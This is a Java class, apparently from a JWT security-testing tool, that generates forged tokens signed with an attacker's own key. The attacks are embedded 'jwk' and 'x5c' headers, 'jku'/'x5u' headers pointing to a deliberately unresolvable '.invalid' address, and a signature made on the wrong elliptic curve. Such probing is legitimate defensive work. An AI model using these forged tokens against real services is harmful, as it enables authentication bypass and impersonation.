package dev.holdfast.probes.jwt;

import dev.holdfast.core.json.JsonText;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.Signature;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/**
 * Tokens that are well signed with an attacker's own key and say where to find it. Addresses end in
 * {@code .invalid} (RFC 2606), which no resolver knows: the service can be made to call nobody.
 */
final class ForeignKeyAttacks {
    static final String NOWHERE = "https://holdfast-probe.invalid/keys.json";

    private final Forge forge;
    private final Algorithm algorithm;
    private final KeyMaker keys;
    private final KeyPair own;
    private final byte[] certificate;

    ForeignKeyAttacks(Forge forge, KeyMaker keys) throws GeneralSecurityException {
        this.forge = forge;
        this.algorithm =
                forge.algorithm().symmetric()
                        ? new Algorithm("RS256", "RS", 256)
                        : forge.algorithm();
        this.keys = keys;
        this.own = keys.pair(algorithm.keys(), algorithm.curve());
        this.certificate = OwnCertificate.of(own, Instant.ofEpochSecond(forge.in(Duration.ZERO)));
    }

    List<Attack> all() throws GeneralSecurityException {
        List<Attack> all = new ArrayList<>();
        for (KeyIdForm form : KeyIdForm.of(named())) {
            all.add(
                    Attack.of(
                            JwtRuleSet.EMBEDDED,
                            form.words(),
                            "a token that brings its own key as jwk" + form.words(),
                            signed(form.token().header("jwk", PublicJwk.of(own.getPublic())))));
        }
        String chain = Base64.getEncoder().encodeToString(certificate);
        for (KeyIdForm form : KeyIdForm.of(named())) {
            all.add(
                    Attack.of(
                            JwtRuleSet.EMBEDDED,
                            "x5c" + form.words(),
                            "a token that brings its own certificate as x5c" + form.words(),
                            signed(form.token().header("x5c", List.of(chain)))));
        }
        if (forge.algorithm().elliptic()) {
            Token good = forge.good();
            all.add(
                    Attack.of(
                            JwtRuleSet.CURVE,
                            "",
                            "a token signed on another curve",
                            good.with(onOtherCurve(good))));
        }
        return all;
    }

    /** A token of the foreign key that names an address in jku or x5u. */
    Attack remote(String parameter, KeyIdForm form, String address)
            throws GeneralSecurityException {
        return Attack.of(
                JwtRuleSet.REMOTE,
                parameter + form.words(),
                "a token of a foreign key that names an address in " + parameter + form.words(),
                signed(form.token().header("alg", algorithm.name()).header(parameter, address)));
    }

    /** The foreign key as a service finds it at the address in jku or x5u. */
    String found(String parameter) {
        return parameter.equals("x5u") ? OwnCertificate.pem(certificate) : keySet();
    }

    private Token named() {
        return forge.good().header("alg", algorithm.name());
    }

    /** RFC 7517, section 5. */
    private String keySet() {
        Map<String, Object> key = new TreeMap<>(PublicJwk.of(own.getPublic()));
        key.put("use", "sig");
        key.put("alg", algorithm.name());
        if (!forge.rules().keyId().isEmpty()) {
            key.put("kid", forge.rules().keyId());
        }
        return JsonText.line(Map.of("keys", List.of(key)));
    }

    private String signed(Token token) throws GeneralSecurityException {
        return token.with(algorithm.sign(own.getPrivate(), token.bytes()));
    }

    private byte[] onOtherCurve(Token token) throws GeneralSecurityException {
        String other = algorithm.bits() == 384 ? "secp256r1" : "secp384r1";
        Signature signature =
                Signature.getInstance("SHA" + algorithm.bits() + "withECDSAinP1363Format");
        signature.initSign(keys.pair("EC", other).getPrivate());
        signature.update(token.bytes());
        return signature.sign();
    }
}
